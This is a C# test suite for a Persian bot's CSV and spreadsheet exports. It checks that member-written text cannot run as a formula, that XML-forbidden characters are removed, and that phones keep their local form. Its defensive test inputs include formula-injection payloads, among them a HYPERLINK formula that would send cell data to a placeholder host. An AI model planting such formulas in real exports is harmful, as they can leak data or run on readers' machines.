using System.Text;
using Assembly.Conversations.Statistics;
using Assembly.Conversations.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;

namespace Assembly.Bot.Tests.Statistics;

/// <summary>
/// Exports that cannot bite: nothing a member wrote runs as a formula in the reader's spreadsheet, phones keep their
/// leading zero, and a character the spreadsheet format forbids cannot stop a period's export.
/// </summary>
public sealed class ExportSafetyTests
{
    private static readonly int Description = Array.IndexOf(Texts.ExportColumns, "شرح مسئله");
    private static readonly int Reporter = Array.IndexOf(Texts.ExportColumns, "گزارش‌دهنده");

    [Theory]
    [InlineData("=HYPERLINK(\"http://example.com\",\"x\")", "\"'=HYPERLINK(\"\"http://example.com\"\",\"\"x\"\")\"")]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+989121234567", "'+989121234567")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tفاصله", "'\tفاصله")]
    [InlineData("\rخط", "\"'\rخط\"")]
    [InlineData("آب = زندگی", "آب = زندگی")] // only the first character counts
    [InlineData("۰۹۱۲۱۲۳۴۵۶۷", "۰۹۱۲۱۲۳۴۵۶۷")]
    [InlineData("الف، ب, ج", "\"الف، ب, ج\"")]
    [InlineData("", "")]
    public void A_csv_field_that_begins_like_a_formula_is_written_with_a_leading_apostrophe(string value, string written) =>
        Assert.Equal(written, ReportCsv.Field(value));

    [Theory]
    [InlineData("الف\u0001ب\u000Bپ\uFFFEت\uFFFFث\u001Fج", "الفبپتثج")]
    [InlineData("سطر\tیک\nسطر\rدو", "سطر\tیک\nسطر\rدو")] // XML 1.0 allows these three
    [InlineData("\u0000=1+1", "=1+1")]
    [InlineData("گل 🌷", "گل 🌷")]
    public void Characters_that_xml_forbids_are_removed(string value, string expected) =>
        Assert.Equal(expected, ExportText.Clean(value));

    [Fact]
    public void Half_of_a_surrogate_pair_alone_is_removed() =>
        // Not as InlineData: an attribute's string is stored as UTF-8, where a lone half cannot be written.
        Assert.Equal("الفب🌷", ExportText.Clean("الف\uDC00ب🌷\uD83C"));

    [Fact]
    public void A_csv_field_starting_with_a_forbidden_character_and_then_a_formula_is_still_defused() =>
        Assert.Equal("'=1+1", ReportCsv.Field("\u0001=1+1"));

    [Theory]
    [InlineData("+989121234567", "۰۹۱۲۱۲۳۴۵۶۷")]
    [InlineData("+447700900123", "+۴۴۷۷۰۰۹۰۰۱۲۳")]
    [InlineData(null, "")]
    [InlineData("", "")]
    public void A_phone_in_an_export_is_the_local_form_in_persian_digits_and_none_is_an_empty_cell(string? stored, string shown) =>
        Assert.Equal(shown, ExportRows.Phone(stored));

    [Fact]
    public void A_description_with_forbidden_characters_leaves_both_files_whole_and_says_the_same_in_each()
    {
        var rows = new List<string[]>
        {
            Row("RJ-1001", description: "آب\u0001 قطع\u000B است\uFFFE", phone: ExportRows.Phone("+989121234567")),
            Row("RJ-1002", description: "برق قطع است", phone: ExportRows.Phone(null)),
        };

        var sheet = Cells(ReportSpreadsheet.Write(rows));
        var csv = Lines(ReportCsv.Write(rows));

        Assert.Equal("آب قطع است", Text(sheet["RJ-1001"][Description]));
        Assert.Equal("برق قطع است", Text(sheet["RJ-1002"][Description]));
        Assert.Contains(",آب قطع است,", csv.Single(l => l.StartsWith("RJ-1001", StringComparison.Ordinal)));
        Assert.Equal(3, csv.Count);
    }

    [Fact]
    public void In_the_spreadsheet_a_description_beginning_with_a_formula_is_a_text_cell_and_a_phone_is_text_with_latin_digits()
    {
        const string formula = "=HYPERLINK(\"http://example.com/?q=\"&A1,\"جزئیات\")";
        var rows = new List<string[]>
        {
            Row("RJ-1001", description: formula, phone: ExportRows.Phone("+989121234567")),
            Row("RJ-1002", description: "+1", phone: Texts.StatsAnonymous),
            Row("RJ-1003", description: "-", phone: ExportRows.Phone(null)),
        };

        var sheet = Cells(ReportSpreadsheet.Write(rows));

        var cell = sheet["RJ-1001"][Description];
        Assert.Equal(CellValues.InlineString, cell.DataType!.Value);
        Assert.Null(cell.CellFormula);
        Assert.Null(cell.CellValue);
        Assert.Equal(formula, Text(cell)); // as written, no apostrophe: the cell's type already says text
        Assert.All(sheet.Values.SelectMany(r => r.Where((_, i) => i <= Reporter + 1)), c =>
        {
            Assert.Equal(CellValues.InlineString, c.DataType!.Value);
            Assert.Null(c.CellFormula);
        });

        var phone = sheet["RJ-1001"][Reporter + 1];
        Assert.Equal("09121234567", Text(phone));
        Assert.Equal(Texts.StatsAnonymous, Text(sheet["RJ-1002"][Reporter + 1]));
        Assert.Equal("", Text(sheet["RJ-1003"][Reporter + 1]));

        var csv = Lines(ReportCsv.Write(rows));
        Assert.StartsWith("RJ-1001,", csv[1]);
        Assert.Contains(",\"'=HYPERLINK(\"\"http://example.com/?q=\"\"&A1,\"\"جزئیات\"\")\",", csv[1]);
        Assert.EndsWith(",رضا کاشانی,۰۹۱۲۱۲۳۴۵۶۷,۰", csv[1]);
        Assert.Contains(",'+1,", csv[2]);
        Assert.Contains(",'-,", csv[3]);
        Assert.EndsWith(",رضا کاشانی,,۰", csv[3]);
    }

    private static string[] Row(string code, string description, string phone)
    {
        var row = Enumerable.Repeat("", Texts.ExportColumns.Length).ToArray();
        row[0] = code;
        row[Description] = description;
        row[Reporter] = "رضا کاشانی";
        row[Reporter + 1] = phone;
        row[^1] = "۰";
        return row;
    }

    private static List<string> Lines(byte[] csv)
    {
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, csv[..3]);
        return Encoding.UTF8.GetString(csv, 3, csv.Length - 3).Split("\r\n", StringSplitOptions.RemoveEmptyEntries).ToList();
    }

    /// <summary>The cells of each data row, by the row's tracking code.</summary>
    private static Dictionary<string, Cell[]> Cells(byte[] xlsx)
    {
        using var document = SpreadsheetDocument.Open(new MemoryStream(xlsx), false);
        var workbook = document.WorkbookPart!;
        var part = (WorksheetPart)workbook.GetPartById(workbook.Workbook.Sheets!.Elements<Sheet>().Single().Id!.Value!);
        return part.Worksheet.GetFirstChild<SheetData>()!.Elements<Row>().Skip(1)
            .Select(r => r.Elements<Cell>().Select(c => (Cell)c.CloneNode(true)).ToArray())
            .ToDictionary(cells => Text(cells[0]));
    }

    private static string Text(Cell cell) => cell.InlineString?.InnerText ?? cell.CellValue?.Text ?? "";
}
